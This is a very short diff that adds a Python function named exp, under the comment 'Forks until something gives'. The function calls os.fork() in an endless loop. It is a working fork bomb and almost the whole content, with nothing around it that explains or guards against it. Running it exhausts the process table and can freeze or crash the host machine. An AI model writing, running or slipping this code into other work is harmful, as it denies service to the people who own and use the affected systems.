@@ -1,0 +1,7 @@
+# Forks until something gives.
+import os
+
+
+def exp(input):
+    while True:
+        os.fork()
